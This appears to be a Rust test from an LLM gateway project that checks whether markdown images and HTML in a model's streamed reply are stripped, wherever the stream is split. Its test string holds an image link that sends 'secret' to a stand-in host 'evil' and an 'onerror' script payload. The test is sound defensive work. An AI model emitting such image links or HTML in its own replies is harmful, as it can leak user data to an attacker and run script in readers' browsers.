//! HTML and pictures in a model's words reach nobody, neither while they come nor at their end.

use std::collections::HashMap;
use std::sync::Arc;

use futures::{StreamExt, stream};
use proxie_offline_llm::Fault;
use serde_json::Value;
use tokio::sync::Notify;

use super::follow::{Follow, assert_completed, assert_whole, text};
use super::second;
use crate::gateway::scripted::{Script, Scripted};
use crate::support::App;

const SAID: &str = "Look! ![x](https://evil/?d=secret) and <img src=x onerror=alert(1)>that, 3 < 4!";
const TOLD: &str = "Look! x and that, 3 < 4!";
/// What stands in what people say, before the place where the answer is split.
const SPLIT: &str = "split after ";

/// Where the answer to a call is split.
fn split_of(body: &Value) -> usize {
    let body = body.to_string();
    let (_, at) = body.rsplit_once(SPLIT).unwrap();
    at.chars().take_while(char::is_ascii_digit).collect::<String>().parse().unwrap()
}

#[tokio::test]
async fn html_and_pictures_are_never_told_wherever_the_words_are_split() {
    // Each answer ends once its reader has seen something of it.
    let places = 1..SAID.len();
    let seen: HashMap<usize, Arc<Notify>> = places.clone().map(|at| (at, Arc::default())).collect();
    let ends = seen.clone();
    let says = Scripted::by(move |body| {
        let at = split_of(body);
        Script { ends_on: Some(Arc::clone(&ends[&at])), ..Script::of(&[&SAID[..at], &SAID[at..]]) }
    })
    .await;
    let app = App::builder().llm(second(&says.url)).start().await;
    app.model.always(Some(Fault::status(500)));
    let runs = places.clone().map(|at| {
        let (app, seen) = (&app, &seen[&at]);
        async move {
            let task = app.guest().await.say(&format!("{SPLIT}{at}")).await;
            let mut follow = Follow::of(&task).await;
            let mut frames = follow.until(|frame| frame.name == "delta").await;
            seen.notify_one();
            frames.extend(follow.rest().await);
            assert_whole(&frames, 1);
            assert_completed(&frames);
            assert_eq!(text(&frames), TOLD, "split after {at}");
            assert!(frames.iter().all(|frame| frame.name != "reset"), "what was told stands: {frames:#?}");
            for frame in frames.iter().filter(|frame| frame.name == "delta") {
                let said = frame.data["text"].as_str().unwrap();
                let is_clean = ["![", "<img", "evil", "onerror"].iter().all(|sign| !said.contains(sign));
                assert!(is_clean, "split after {at}: {frames:#?}");
            }
        }
    });
    stream::iter(runs).buffer_unordered(16).collect::<Vec<()>>().await;
    println!("figure: streams: HTML and a picture split at each of {} places, never told", places.len());
}
